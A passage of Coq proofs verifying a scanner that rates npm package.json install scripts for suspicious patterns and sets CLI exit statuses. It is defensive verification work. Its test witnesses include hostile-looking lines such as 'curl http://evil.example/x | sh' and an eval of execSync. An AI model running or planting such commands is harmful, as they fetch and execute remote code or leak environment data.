  intros a b. subst a b.
  assert (F : filter (matchesIn (upperCase s)) suspiciousPatterns
              = filter (matchesIn s) suspiciousPatterns).
  { apply filter_ext_in. intros p I. apply matchesIn_upper.
    now apply catalog_ignoreCase. }
  split; [|split; [|split]].
  - now rewrite !riskLevel_analyzeString, combined_upper, F.
  - rewrite !risks_analyzeString, combined_upper. unfold hasObfuscation.
    now rewrite test_upper by reflexivity.
  - unfold analyzeString. cbn [matches]. now rewrite !collect_sources, F.
  - unfold analyzeString. cbn [matches]. apply matched_upper.
    intros p I. split; [now apply catalog_global|now apply catalog_ignoreCase].
Qed.

(** X9: the assessment does not depend on letter case: two scripts that
    differ only in the case of the letters a-z get the same tier, score and
    notes, match the same catalog patterns in the same order, and the texts
    matched differ in letter case only. *)
Theorem letter_case_is_ignored name s s' :
  upperCase s = upperCase s' ->
  let a := analyzeString name s in
  let a' := analyzeString name s' in
  riskLevel a = riskLevel a' /\ score a = score a' /\ risks a = risks a'
  /\ map pattern_source (matches a) = map pattern_source (matches a')
  /\ map (fun mt => upperCase (matched mt)) (matches a)
     = map (fun mt => upperCase (matched mt)) (matches a').
Proof.
  intros E a a'. subst a a'.
  destruct (analysis_upper name s) as (L & R & P & M).
  destruct (analysis_upper name s') as (L' & R' & P' & M').
  cbv zeta in *. rewrite E in L, R, P, M.
  rewrite !score_analyzeString.
  rewrite <- L, <- L', <- R, <- R', <- P, <- P', <- M, <- M'.
  repeat split.
Qed.

Lemma letter_case_is_ignored_witness :
  let a := analyzeString "install" (lit "FETCH (u + Process.ENV.home)") in
  let a' := analyzeString "install" (lit "fetch (U + process.env.HOME)") in
  riskLevel a = riskLevel a' /\ risks a = risks a'.
Proof.
  assert (E : upperCase (lit "FETCH (u + Process.ENV.home)")
              = upperCase (lit "fetch (U + process.env.HOME)"))
    by (vm_compute; reflexivity).
  destruct (letter_case_is_ignored "install" _ _ E) as (L & _ & R & _).
  split; assumption.
Defined.

(** ** The matches and the notes of an analysis *)

Lemma NoDup_map_filter {A B} (f : A -> B) (g : A -> bool) : forall l,
  NoDup (map f l) -> NoDup (map f (filter g l)).
Proof.
  induction l as [|a l IH]; intros N; [constructor|].
  cbn [map] in N. inversion N as [|? ? Ha Nl]; subst. cbn [filter].
  destruct (g a); [|now apply IH].
  cbn [map]. constructor; [|now apply IH].
  intros I. apply Ha. apply in_map_iff in I. destruct I as (b & E & I).
  apply filter_In in I. apply in_map_iff. exists b. now split; [|apply I].
Qed.

(** X10: the matches of an analysis follow the order of the catalog, one
    per catalog pattern that matches the script and none for the others, so
    no pattern is reported twice and there are at most 26 matches. *)
Theorem matches_follow_catalog name s :
  let a := analyzeString name s in
  map pattern_source (matches a)
  = map source (filter (matchesIn s) suspiciousPatterns)
  /\ NoDup (map pattern_source (matches a))
  /\ List.length (matches a) <= 26.
Proof.
  intros a. subst a.
  assert (E : map pattern_source (matches (analyzeString name s))
              = map source (filter (matchesIn s) suspiciousPatterns)).
  { unfold analyzeString. cbn [matches]. apply collect_sources. }
  split; [exact E|]. split.
  - rewrite E. apply NoDup_map_filter, catalog_distinct.
  - rewrite matches_count.
    assert (L : List.length suspiciousPatterns = 26) by reflexivity.
    pose proof (filter_length (matchesIn s) suspiciousPatterns). lia.
Qed.

(** A pattern that consumes gives its continuation a shorter input. *)
Lemma m_consumes ic r : forall x k z,
  consumes r = true -> m ic r x k = Some z ->
  exists w y, x = w ++ y /\ w <> [] /\ k y = Some z.
Proof.
  induction r as [|p| | |a IHa b IHb|a IHa b IHb|a IHa]; intros x k z C H;
    cbn [consumes] in C; try discriminate C; cbn [m] in H.
  - destruct x as [|c x']; [discriminate|].
    destruct (char_eqb ic p c); [|discriminate].
    exists [c], x'. now repeat split.
  - destruct x as [|c x']; [discriminate|].
    destruct (is_line_terminator c); [discriminate|].
    exists [c], x'. now repeat split.
  - destruct x as [|c x']; [discriminate|].
    destruct (is_space c); [|discriminate].
    exists [c], x'. now repeat split.
  - destruct (consumes a) eqn:Ca.
    + apply (IHa _ _ _ eq_refl) in H. destruct H as (w1 & y1 & -> & N & H).
      apply m_suffix in H. destruct H as (w2 & y2 & -> & H).
      exists (w1 ++ w2), y2. rewrite app_assoc. repeat split; [|exact H].
      destruct w1; [now contradiction N|discriminate].
    + cbn [orb] in C. apply m_suffix in H.
      destruct H as (w1 & y1 & -> & H).
      apply (IHb _ _ _ C) in H. destruct H as (w2 & y2 & -> & N & H).
      exists (w1 ++ w2), y2. rewrite app_assoc. repeat split; [|exact H].
      destruct w1; [exact N|discriminate].
  - apply andb_prop in C. destruct C as (Ca & Cb).
    destruct (m ic a x k) eqn:E.
    + injection H as <-. now apply (IHa _ _ _ Ca).
    + now apply (IHb _ _ _ Cb).
Qed.

Lemma match_here_nonempty re x txt :
  consumes (pattern re) = true -> match_here re x = Some txt -> txt <> [].
Proof.
  unfold match_here. intros C.
  destruct (m (ignoreCase re) (pattern re) x (fun y => Some y)) as [rest|] eqn:E;
    [|discriminate].
  intros [= <-]. apply (m_consumes _ _ _ _ _ C) in E.
  destruct E as (w & y & -> & N & [= ->]).
  rewrite length_app, Nat.add_sub, firstn_app, Nat.sub_diag, firstn_all.
  cbn [firstn]. now rewrite app_nil_r.
Qed.

Lemma catalog_consumes p : In p suspiciousPatterns -> consumes (pattern p) = true.
Proof.
  assert (A : forallb (fun p => consumes (pattern p)) suspiciousPatterns = true)
    by (vm_compute; reflexivity).
  rewrite forallb_forall in A. apply A.
Qed.

(** X11: the text recorded for a match is a non-empty piece of the script,
    the pattern matches it there, and the pattern matches at no earlier
    position: it is the first occurrence. *)
Theorem matched_is_first_nonempty name s mt :
  In mt (matches (analyzeString name s)) ->
  exists p before after,
    In p suspiciousPatterns /\ pattern_source mt = source p
    /\ s = before ++ matched mt ++ after
    /\ matched mt <> []
    /\ match_here p (matched mt ++ after) = Some (matched mt)
    /\ forall j, j < List.length before -> match_here p (skipn j s) = None.
Proof.
  unfold analyzeString. cbn [matches].
  rewrite (collect_entries s suspiciousPatterns catalog_global).
  intros I. apply in_flat_map in I. destruct I as (p & Ip & I).
  destruct (String_match s p) as [found|] eqn:E; [|destruct I].
  destruct I as [<-|[]]. cbn [pattern_source matched].
  destruct (matched_is_first_occurrence s p found Ip E)
    as (before & after & S & M & L).
  exists p, before, after. repeat split; try assumption.
  apply (match_here_nonempty p _ _ (catalog_consumes p Ip) M).
Qed.

Lemma matched_is_first_nonempty_witness :
  exists p before after,
    In p suspiciousPatterns
    /\ lit "curl http://a; wget https://b" = before ++ lit "http://" ++ after
    /\ forall j, j < List.length before ->
         match_here p (skipn j (lit "curl http://a; wget https://b")) = None.
Proof.
  destruct (matched_is_first_nonempty "install"
              (lit "curl http://a; wget https://b")
              {| pattern_source := "https?:\/\/";
                 matched := lit "http://";
                 context := [] |})
    as (p & before & after & I & _ & S & _ & _ & L).
  - vm_compute. left. reflexivity.
  - exists p, before, after. repeat split; assumption.
Defined.

(** X12: given a number for the index, [getContext] returns the characters
    of the content from [index - radius] up to [index + radius], clamped to
    the content, at most twice the radius of them; given [undefined] it
    returns the empty string. *)
Theorem getContext_slice content index radius :
  (0 <= index)%Z -> (0 <= radius)%Z ->
  getContext content (Some index) radius
  = contextAround content (Z.to_nat index) (Z.to_nat radius)
  /\ (JsString.length (getContext content (Some index) radius)
      <= 2 * radius)%Z
  /\ getContext content None radius = [].
Proof.
  intros Hi Hr.
  assert (E : getContext content (Some index) radius
              = contextAround content (Z.to_nat index) (Z.to_nat radius)).
  { unfold getContext, contextAround, substring, Number.Math_max,
      Number.Math_min, Number.of_value.
    cbn [fold_left Number.max2 Number.min2 Number.sub Number.add Number.clamp].
    unfold JsString.length.
    set (len := List.length content).
    set (o := Z.to_nat index). set (r := Z.to_nat radius).
    assert (Ho : index = Z.of_nat o) by (subst o; lia).
    assert (Hr' : radius = Z.of_nat r) by (subst r; lia).
    rewrite Ho, Hr'. clear Ho Hr' Hi Hr.
    destruct (Nat.le_gt_cases len (o - r)) as [Far|Near].
    - rewrite !(skipn_all2 content) by (fold len; lia).
      now rewrite !firstn_nil.
    - replace (Z.to_nat (Z.min _ _)) with (o - r) by lia.
      destruct (Nat.le_gt_cases (o + r) len) as [In|Out].
      + f_equal. lia.
      + rewrite !firstn_all2; [reflexivity| |];
          rewrite length_skipn; fold len; lia. }
  split; [exact E|]. split; [|reflexivity].
  rewrite E. unfold contextAround, JsString.length.
  rewrite length_firstn. lia.
Qed.

Lemma getContext_slice_witness :
  getContext (lit "curl http://evil.example/x | sh") (Some 5%Z) 3
  = lit "rl htt".
Proof.
  destruct (getContext_slice (lit "curl http://evil.example/x | sh") 5 3)
    as (E & _); [lia|lia|].
  rewrite E. vm_compute. reflexivity.
Defined.

(** X13: the notes of an analysis are the combination note, present exactly
    when the combination tests hold, followed by the obfuscation note,
    present exactly when the obfuscation test holds, and nothing else; so
    shell execution together with obfuscation is reported with the note
    about network access and environment variables. *)
Theorem notes_of_an_analysis name s :
  let a := analyzeString name s in
  (In combinationNote (risks a) <-> combined s = true)
  /\ (In obfuscationNote (risks a) <-> hasObfuscation s = true)
  /\ (forall note, In note (risks a) ->
                   note = combinationNote \/ note = obfuscationNote)
  /\ (hasExec s = true -> hasObfuscation s = true ->
      risks a = [combinationNote; obfuscationNote]
      /\ riskLevel a = CRITICAL).
Proof.
  intros a. subst a. rewrite risks_analyzeString.
  split; [|split; [|split]].
  - destruct (combined s), (hasObfuscation s); cbn [app In];
      split; intros H; auto; try discriminate;
      repeat (destruct H as [H|H]; try discriminate H; try contradiction).
  - destruct (combined s), (hasObfuscation s); cbn [app In];
      split; intros H; auto; try discriminate;
      repeat (destruct H as [H|H]; try discriminate H; try contradiction).
  - intros note. destruct (combined s), (hasObfuscation s); cbn [app In];
      intuition auto.
  - intros X O. rewrite riskLevel_by_matches. unfold combined.
    now rewrite X, O, orb_true_r.
Qed.

Lemma notes_of_an_analysis_witness :
  let a := analyzeString "install" (lit "node -e 'eval(execSync(x))'") in
  hasNetwork (lit "node -e 'eval(execSync(x))'") = false
  /\ risks a = [combinationNote; obfuscationNote]
  /\ riskLevel a = CRITICAL.
Proof.
  split; [vm_compute; reflexivity|].
  apply (notes_of_an_analysis "install" (lit "node -e 'eval(execSync(x))'"));
    vm_compute; reflexivity.
Defined.

(** ** The command line *)

Lemma quiet_log l : quiet (console_log l).
Proof. intros out. now exists [l]. Qed.

Lemma quiet_ret : quiet (cli_ret tt).
Proof. intros out. exists []. unfold cli_ret. now rewrite app_nil_r. Qed.

Lemma quiet_bind c k : quiet c -> quiet k -> quiet (cli_bind c (fun _ => k)).
Proof.
  intros C K out. unfold cli_bind. destruct (C out) as (o1 & ->).
  destruct (K (out ++ o1)) as (o2 & ->). exists (o1 ++ o2).
  now rewrite app_assoc.
Qed.

Lemma quiet_forEach {A} (f : A -> cli unit) l :
  (forall a, quiet (f a)) -> quiet (forEach f l).
Proof.
  intros F. induction l as [|a l IH]; [apply quiet_ret|].
  cbn [forEach]. now apply quiet_bind.
Qed.

Lemma quiet_if (b : bool) c d : quiet c -> quiet d -> quiet (if b then c else d).
Proof. now destruct b. Qed.

Lemma quiet_printBanner : quiet printBanner.
Proof. unfold printBanner. repeat apply quiet_bind; apply quiet_log. Qed.

Lemma quiet_printHelp : quiet printHelp.
Proof.
  unfold printHelp. repeat (apply quiet_bind; [apply quiet_log|]).
  apply quiet_log.
Qed.

Lemma quiet_printFinding c f : quiet (printFinding c f).
Proof.
  unfold printFinding. apply quiet_bind; [apply quiet_log|].
  apply quiet_bind.
  - apply quiet_if; [|apply quiet_ret].
    apply quiet_forEach. intros d. apply quiet_log.
  - apply quiet_if.
    + apply quiet_bind; [apply quiet_log|].
      apply quiet_forEach. intros d. apply quiet_log.
    + apply quiet_if; [apply quiet_log|apply quiet_ret].
Qed.

(** [printResult] writes its lines when the name and the version of the
    result convert to strings; when one of them does not, it throws before
    it has written anything. *)
Lemma printResult_printable r : printable r = true -> quiet (printResult r).
Proof.
  unfold printable, printResult, ToString. intros P.
  apply andb_prop in P. destruct P as [Pn Pv]. rewrite Pn, Pv. cbv zeta.
  apply quiet_bind; [exact quiet_ret|].
  apply quiet_bind; [exact quiet_ret|].
  repeat (apply quiet_bind; [apply quiet_log|]).
  apply quiet_if; [|apply quiet_ret].
  apply quiet_bind; [apply quiet_log|].
  apply quiet_forEach. intros f. apply quiet_printFinding.
Qed.

Lemma printResult_unprintable r out :
  printable r = false -> printResult r out = (Raised TypeError, out).
Proof.
  unfold printable, printResult, ToString. intros P. cbv zeta.
  destruct (convertible (packageName r)); cbn [andb] in P.
  - rewrite P. reflexivity.
  - reflexivity.
Qed.

(** Printing a list of results stops at the first that cannot be printed. *)
Lemma forEach_printResult rs : forall out,
  exists out',
    forEach printResult rs out
    = (if forallb printable rs then Returned tt else Raised TypeError,
       out ++ out').
Proof.
  induction rs as [|r rs IH]; intros out.
  - exists []. cbn [forEach forallb]. unfold cli_ret. now rewrite app_nil_r.
  - cbn [forEach forallb]. unfold cli_bind. destruct (printable r) eqn:P.
    + destruct (printResult_printable r P out) as (o1 & ->).
      destruct (IH (out ++ o1)) as (o2 & ->). exists (o1 ++ o2).
      cbn [andb]. now rewrite app_assoc.
    + rewrite (printResult_unprintable r out P). exists [].
      cbn [andb]. now rewrite app_nil_r.
Qed.

Lemma quiet_printCount tier n : quiet (printCount tier n).
Proof. unfold printCount. apply quiet_if; [apply quiet_log|apply quiet_ret]. Qed.

(** After a quiet piece the program goes on, with more lines written. *)
Lemma after_quiet {B} c (k : cli B) out :
  quiet c -> exists out', cli_bind c (fun _ => k) out = k (out ++ out').
Proof.
  intros C. unfold cli_bind. destruct (C out) as (o & ->). now exists o.
Qed.

Lemma alarming_counts rs :
  (0 <? tierCount CRITICAL rs)%nat || (0 <? tierCount HIGH rs)%nat
  = existsb alarming rs.
Proof.
  unfold tierCount. induction rs as [|r rs IH]; [reflexivity|].
  cbn [filter existsb]. unfold alarming at 1. rewrite <- IH.
  destruct (overallRisk r); cbn [RiskLevel_eqb orb List.length Nat.ltb Nat.leb];
    try reflexivity.
  now rewrite orb_true_r.
Qed.

(** Steps over the leading pieces of a sequence that only write lines. *)
Ltac skip_quiet :=
  repeat match goal with
         | |- context [cli_bind ?c (fun _ => ?k) ?o] =>
             let Q := fresh "Q" in
             assert (Q : quiet c)
               by first [apply quiet_log | apply quiet_printCount
                        | apply quiet_printBanner | apply quiet_printHelp];
             let o' := fresh "o" in
             destruct (after_quiet c k o Q) as (o' & ->); clear Q
         end.

(** What [printSummary] ends with. *)
Lemma printSummary_outcome rs out :
  fst (printSummary rs out)
  = if existsb alarming rs then Exited 1%Z else Returned tt.
Proof.
  unfold printSummary. cbv zeta. skip_quiet.
  rewrite alarming_counts. destruct (existsb alarming rs).
  - skip_quiet. reflexivity.
  - match goal with
    | |- fst ((if ?b then ?c else ?d) ?o) = _ =>
        assert (Q : quiet (if b then c else d));
        [|destruct (Q o) as (o' & ->); reflexivity]
    end.
    apply quiet_if; [|apply quiet_log].
    apply quiet_bind; apply quiet_log.
Qed.

Lemma run_status resolve fs args :
  fst (run resolve fs args) = statusOf (fst (main resolve fs args [])).
Proof.
  unfold run. now destruct (main resolve fs args []) as [[u|code|e] out].
Qed.

Lemma argument_or_given s d : s <> EmptyString -> argument_or (Some s) d = s.
Proof. destruct s; [intros N; now contradiction N|reflexivity]. Qed.

(** X14: [printSummary] ends the run with status 1 exactly when one of the
    results is CRITICAL or HIGH, and returns otherwise; what it writes
    starts with the header, a rule and the number of results it was
    given. *)
Theorem summary_exits_on_high_risk rs out :
  fst (printSummary rs out)
  = (if existsb alarming rs then Exited 1%Z else Returned tt)
  /\ exists more,
       snd (printSummary rs out)
       = out ++ [SummaryHeader; Rule; SummaryTotal (List.length rs)] ++ more.
Proof.
  split; [apply printSummary_outcome|].
  unfold printSummary, printCount, cli_bind, console_log, process_exit, cli_ret.
  cbv zeta.
  destruct (0 <? tierCount CRITICAL rs)%nat, (0 <? tierCount HIGH rs)%nat,
    (0 <? tierCount MEDIUM rs)%nat, (0 <? tierCount LOW rs)%nat;
    cbn [orb snd fst]; eexists; rewrite <- !app_assoc; cbn [app];
    reflexivity.
Qed.

Lemma tierCount_total rs :
  tierCount CRITICAL rs + tierCount HIGH rs + tierCount MEDIUM rs
  + tierCount LOW rs + tierCount SAFE rs = List.length rs.
Proof.
  unfold tierCount. induction rs as [|r rs IH]; [reflexivity|].
  cbn [filter]. destruct (overallRisk r); cbn [RiskLevel_eqb List.length]; lia.
Qed.

Lemma scanNodeModules_no_SAFE fs root rs :
  scanNodeModules fs root = Ok rs -> tierCount SAFE rs = 0.
Proof.
  unfold scanNodeModules. intros H.
  destruct (walkNodeModules fs root) as [w|e] eqn:W; [|discriminate H].
  cbn [bind] in H. injection H as <-.
  apply walkNodeModules_visited in W. rewrite W.
  unfold visited, start. cbn [results app].
  induction (filter (existsSync fs) (candidatePaths fs root)) as [|p ps IH];
    [reflexivity|].
  cbn [flat_map]. unfold tierCount in *. rewrite filter_app, length_app, IH.
  unfold contribution.
  destruct (scanPackageJson fs p) as [r|] eqn:E; [|reflexivity].
  destruct (worthReporting r) eqn:R; [|reflexivity].
  cbn [filter]. apply (worthReporting_scripts fs p r E) in R.
  apply scanPackageJson_result in E. destruct E as ((_ & Wl) & O & _).
  destruct (calculateOverallRisk_top r Wl R) as (name & top & I & L & _).
  rewrite Forall_forall in Wl.
  assert (Wt : wellScored top).
  { apply Wl. unfold Object_values. apply in_map_iff. now exists (name, top). }
  rewrite O, L. destruct Wt as [_ S].
  destruct (riskLevel top); try reflexivity. now contradiction S.
Qed.

(** X15: for the results of a tree scan the four counts of the summary
    (CRITICAL, HIGH, MEDIUM, LOW) add up to the total it prints: no result
    falls outside those tiers. *)
Theorem summary_counts_add_up fs root rs :
  scanNodeModules fs root = Ok rs ->
  tierCount CRITICAL rs + tierCount HIGH rs + tierCount MEDIUM rs
  + tierCount LOW rs = List.length rs.
Proof.
  intros H. pose proof (tierCount_total rs) as T.
  rewrite (scanNodeModules_no_SAFE fs root rs H) in T. lia.
Qed.

Lemma summary_counts_add_up_witness :
  exists rs,
    scanNodeModules mixedTree nodeModules = Ok rs
    /\ tierCount CRITICAL rs + tierCount HIGH rs + tierCount MEDIUM rs
       + tierCount LOW rs = 2.
Proof.
  destruct (scanNodeModules mixedTree nodeModules) as [rs|e] eqn:E.
  - exists rs. split; [reflexivity|].
    rewrite (summary_counts_add_up mixedTree nodeModules rs E).
    vm_compute in E. injection E as <-. reflexivity.
  - vm_compute in E. discriminate E.
Defined.

Lemma call_outcome {A B} (r : result A) (k : A -> cli B) out :
  cli_bind (call r) k out
  = match r with
    | Ok a => k a out
    | Throw e => (Raised e, out)
    end.
Proof. unfold cli_bind, call. now destruct r. Qed.

(** The results are printed, then the summary. *)
Lemma printed_then_summary rs rs' out :
  fst (cli_bind (forEach printResult rs) (fun _ => printSummary rs') out)
  = if forallb printable rs
    then if existsb alarming rs' then Exited 1%Z else Returned tt
    else Raised TypeError.
Proof.
  unfold cli_bind. destruct (forEach_printResult rs out) as (o & ->).
  destruct (forallb printable rs); [apply printSummary_outcome|reflexivity].
Qed.

Lemma alarming_or_unprintable rs :
  existsb (fun r => alarming r || negb (printable r)) rs
  = existsb alarming rs || negb (forallb printable rs).
Proof.
  induction rs as [|r rs IH]; [reflexivity|].
  cbn [existsb forallb]. rewrite IH.
  now destruct (alarming r), (printable r), (existsb alarming rs),
    (forallb printable rs).
Qed.

Lemma treeStatus_outcome rs :
  statusOf (if forallb printable rs
            then if existsb alarming rs then Exited 1%Z else @Returned unit tt
            else Raised TypeError)
  = treeStatus (Ok rs).
Proof.
  unfold treeStatus. rewrite alarming_or_unprintable.
  now destruct (forallb printable rs), (existsb alarming rs).
Qed.

(** The outcome of [scan] on a directory. *)
Lemma main_scan_tree resolve fs target :
  target <> EmptyString -> endsWith target "package.json" = false ->
  fst (main resolve fs ["scan"%string; target] [])
  = match scanNodeModules fs (resolve target) with
    | Ok rs =>
        if forallb printable rs
        then if existsb alarming rs then Exited 1%Z else Returned tt
        else Raised TypeError
    | Throw e => Raised e
    end.
Proof.
  intros N E. unfold main. cbn [nth_error].
  change (argument_or (Some "scan"%string) "") with "scan"%string.
  rewrite (argument_or_given target _ N). cbv zeta.
  change (String.eqb "scan" "" || String.eqb "scan" "help")%string with false.
  change (String.eqb "scan" "scan")%string with true.
  cbv iota. rewrite E. skip_quiet. rewrite call_outcome.
  destruct (scanNodeModules fs (resolve target)) as [rs|e]; [|reflexivity].
  destruct rs as [|r rs]; [reflexivity|].
  cbn [List.length Nat.eqb]. apply printed_then_summary.
Qed.

(** The outcome of [scan] on a metadata file. *)
Lemma main_scan_file resolve fs target :
  target <> EmptyString -> endsWith target "package.json" = true ->
  fst (main resolve fs ["scan"%string; target] [])
  = match scanPackageJson fs (resolve target) with
    | Ok r =>
        if printable r
        then if alarming r then Exited 1%Z else Returned tt
        else Raised TypeError
    | Throw e => Raised e
    end.
Proof.
  intros N E. unfold main. cbn [nth_error].
  change (argument_or (Some "scan"%string) "") with "scan"%string.
  rewrite (argument_or_given target _ N). cbv zeta.
  change (String.eqb "scan" "" || String.eqb "scan" "help")%string with false.
  change (String.eqb "scan" "scan")%string with true.
  cbv iota. rewrite E. skip_quiet. rewrite call_outcome.
  destruct (scanPackageJson fs (resolve target)) as [r|e]; [|reflexivity].
  unfold cli_bind at 1. destruct (printable r) eqn:P.
  - match goal with
    | |- fst (match printResult r ?o with _ => _ end) = _ =>
        destruct (printResult_printable r P o) as (o'' & ->)
    end.
    unfold alarming.
    now destruct (RiskLevel_eqb (overallRisk r) CRITICAL
                  || RiskLevel_eqb (overallRisk r) HIGH).
  - now rewrite (printResult_unprintable r _ P).
Qed.

(** X16: [scan] on a path that does not end in package.json exits with
    status 1 exactly when the tree scan throws or returns a result that is
    CRITICAL or HIGH or whose name or version cannot be converted to a
    string, and ends with status 0 otherwise. *)
Theorem scan_tree_status resolve fs target :
  target <> EmptyString -> endsWith target "package.json" = false ->
  fst (run resolve fs ["scan"%string; target])
  = treeStatus (scanNodeModules fs (resolve target))
  /\ (fst (run resolve fs ["scan"%string; target]) = 1%Z
      <-> match scanNodeModules fs (resolve target) with
          | Ok rs => exists r, In r rs
                               /\ (alarming r = true \/ printable r = false)
          | Throw _ => True
          end).
Proof.
  intros N E.
  assert (S : fst (run resolve fs ["scan"%string; target])
              = treeStatus (scanNodeModules fs (resolve target))).
  { rewrite run_status, (main_scan_tree resolve fs target N E).
    destruct (scanNodeModules fs (resolve target)) as [rs|e]; [|reflexivity].
    apply treeStatus_outcome. }
  split; [exact S|]. rewrite S. unfold treeStatus.
  destruct (scanNodeModules fs (resolve target)) as [rs|e]; [|tauto].
  destruct (existsb (fun r => alarming r || negb (printable r)) rs) eqn:X.
  - split; [intros _|reflexivity].
    apply existsb_exists in X. destruct X as (r & I & Y). exists r.
    split; [exact I|]. apply orb_prop in Y.
    destruct Y as [Y|Y]; [now left|right].
    now destruct (printable r).
  - split; [discriminate|]. intros (r & I & Y).
    assert (T : existsb (fun r => alarming r || negb (printable r)) rs = true).
    { apply existsb_exists. exists r. split; [exact I|].
      destruct Y as [-> | ->]; [reflexivity|apply orb_true_r]. }
    rewrite T in X. discriminate X.
Qed.

Lemma scan_tree_status_witness :
  fst (run segments mixedTree ["scan"; "./node_modules"]%string) = 1%Z.
Proof.
  rewrite (proj1 (scan_tree_status segments mixedTree "./node_modules"
                    ltac:(discriminate) eq_refl)).
  vm_compute. reflexivity.
Defined.

(** X17: [scan] on a path that ends in package.json, and [scan] without a
    path, which stands for ./package.json, exit with status 1 exactly when
    the single-file scan throws, or its result is CRITICAL or HIGH, or the
    name or the version of its result cannot be converted to a string, and
    end with status 0 otherwise. *)
Theorem scan_file_status resolve fs target :
  target <> EmptyString -> endsWith target "package.json" = true ->
  fst (run resolve fs ["scan"%string; target])
  = fileStatus (scanPackageJson fs (resolve target))
  /\ (fst (run resolve fs ["scan"%string; target]) = 1%Z
      <-> match scanPackageJson fs (resolve target) with
          | Ok r => alarming r = true \/ printable r = false
          | Throw _ => True
          end)
  /\ run resolve fs ["scan"%string]
     = run resolve fs ["scan"; "./package.json"]%string.
Proof.
  intros N E.
  assert (S : fst (run resolve fs ["scan"%string; target])
              = fileStatus (scanPackageJson fs (resolve target))).
  { rewrite run_status, (main_scan_file resolve fs target N E).
    unfold fileStatus.
    destruct (scanPackageJson fs (resolve target)) as [r|e]; [|reflexivity].
    now destruct (printable r), (alarming r). }
  split; [exact S|]. split; [|reflexivity]. rewrite S. unfold fileStatus.
  destruct (scanPackageJson fs (resolve target)) as [r|e]; [|tauto].
  destruct (alarming r), (printable r); cbn [orb negb];
    split; try discriminate; try tauto.
  intros [H|H]; discriminate H.
Qed.

Lemma scan_file_status_witness :
  fst (run segments projectOnly ["scan"; "package.json"]%string) = 1%Z.
Proof.
  rewrite (proj1 (scan_file_status segments projectOnly "package.json"
                    ltac:(discriminate) eq_refl)).
  vm_compute. reflexivity.
Defined.

(** The outcome of [check]. *)
Lemma main_check resolve fs :
  fst (main resolve fs ["check"%string] [])
  = if existsSync fs (resolve "./package.json"%string)
       && failsToPrint (scanPackageJson fs (resolve "./package.json"%string))
    then match scanPackageJson fs (resolve "./package.json"%string) with
         | Throw e => Raised e
         | Ok _ => Raised TypeError
         end
    else if existsSync fs (resolve "./node_modules"%string)
    then match scanNodeModules fs (resolve "./node_modules"%string) with
         | Ok rs =>
             if forallb printable rs
             then if existsb alarming rs then Exited 1%Z else Returned tt
             else Raised TypeError
         | Throw e => Raised e
         end
    else Returned tt.
Proof.
  unfold main. cbn [nth_error].
  change (argument_or (Some "check"%string) "") with "check"%string.
  cbv zeta.
  change (String.eqb "check" "" || String.eqb "check" "help")%string with false.
  change (String.eqb "check" "scan")%string with false.
  change (String.eqb "check" "check")%string with true.
  cbv iota. skip_quiet.
  assert (T : forall out,
    fst ((if existsSync fs (resolve "./node_modules"%string)
          then (console_log ScanningInstalled ;;;
                results <- call (scanNodeModules fs (resolve "./node_modules"%string)) ;;
                if (0 <? List.length results)%nat
                then (forEach printResult results ;;; printSummary results)
                else console_log NoSuspiciousInNodeModules)
          else cli_ret tt)%cli out)
    = if existsSync fs (resolve "./node_modules"%string)
      then match scanNodeModules fs (resolve "./node_modules"%string) with
           | Ok rs =>
               if forallb printable rs
               then if existsb alarming rs then Exited 1%Z else Returned tt
               else Raised TypeError
           | Throw e => Raised e
           end
      else Returned tt).
  { intros out. destruct (existsSync fs (resolve "./node_modules"%string));
      [|reflexivity].
    skip_quiet. rewrite call_outcome.
    destruct (scanNodeModules fs (resolve "./node_modules"%string)) as [rs|e];
      [|reflexivity].
    destruct rs as [|r rs]; [reflexivity|].
    cbn [List.length Nat.ltb Nat.leb]. apply printed_then_summary. }
  destruct (existsSync fs (resolve "./package.json"%string)); cbn [andb].
  - unfold cli_bind at 1. rewrite call_outcome.
    destruct (scanPackageJson fs (resolve "./package.json"%string)) as [r|e];
      cbn [failsToPrint]; [|reflexivity].
    destruct (printable r) eqn:P; cbn [negb].
    + match goal with
      | |- fst (match printResult r ?o with _ => _ end) = _ =>
          destruct (printResult_printable r P o) as (o'' & ->)
      end.
      apply T.
    + now rewrite (printResult_unprintable r _ P).
  - unfold cli_bind at 1. unfold cli_ret at 1. apply T.
Qed.

(** X18: the exit status of [check] does not depend on how ./package.json
    is rated: it is 1 when ./package.json exists and its scan throws or
    gives a result whose name or version cannot be converted to a string;
    otherwise it is that of the tree scan of ./node_modules when this
    directory exists (1 when the scan throws or returns a result that is
    CRITICAL or HIGH or cannot be printed) and 0 when it does not. *)
Theorem check_status resolve fs :
  fst (run resolve fs ["check"%string])
  = if existsSync fs (resolve "./package.json"%string)
       && failsToPrint (scanPackageJson fs (resolve "./package.json"%string))
    then 1%Z
    else if existsSync fs (resolve "./node_modules"%string)
    then treeStatus (scanNodeModules fs (resolve "./node_modules"%string))
    else 0%Z.
Proof.
  rewrite run_status, main_check.
  assert (T : statusOf
                (if existsSync fs (resolve "./node_modules"%string)
                 then match scanNodeModules fs (resolve "./node_modules"%string) with
                      | Ok rs =>
                          if forallb printable rs
                          then if existsb alarming rs
                               then Exited 1%Z else @Returned unit tt
                          else Raised TypeError
                      | Throw e => Raised e
                      end
                 else Returned tt)
              = if existsSync fs (resolve "./node_modules"%string)
                then treeStatus (scanNodeModules fs (resolve "./node_modules"%string))
                else 0%Z).
  { destruct (existsSync fs (resolve "./node_modules"%string)); [|reflexivity].
    destruct (scanNodeModules fs (resolve "./node_modules"%string)) as [rs|e];
      [|reflexivity].
    apply treeStatus_outcome. }
  destruct (existsSync fs (resolve "./package.json"%string)); cbn [andb];
    [|exact T].
  destruct (scanPackageJson fs (resolve "./package.json"%string)) as [r|e];
    cbn [failsToPrint]; [|reflexivity].
  destruct (printable r); cbn [negb]; [exact T|reflexivity].
Qed.

(** A project whose own metadata is CRITICAL passes [check] when it has no
    [node_modules]. *)
Lemma check_passes_critical_project :
  fileStatus (scanPackageJson projectOnly (segments "./package.json"%string)) = 1%Z
  /\ fst (run segments projectOnly ["check"%string]) = 0%Z.
Proof. split; vm_compute; reflexivity. Qed.

(** A name that cannot be converted to a string: the scan of the project
    returns a SAFE result, and [scan] and [check] exit with status 1 with
    the error written after the line that announces the scan; the tree scan
    reports the package as LOW and [scan] on the tree exits with status 1
    before any summary. *)
Lemma odd_name_ends_the_run :
  (exists r, scanPackageJson oddProject ["package.json"%string] = Ok r
             /\ overallRisk r = SAFE /\ packageName r = oddName)
  /\ run segments oddProject ["scan"; "package.json"]%string
     = (1%Z, bannerLines ++ [ScanningFile "package.json"; ErrorLine TypeError])
  /\ run segments oddProject ["check"%string]
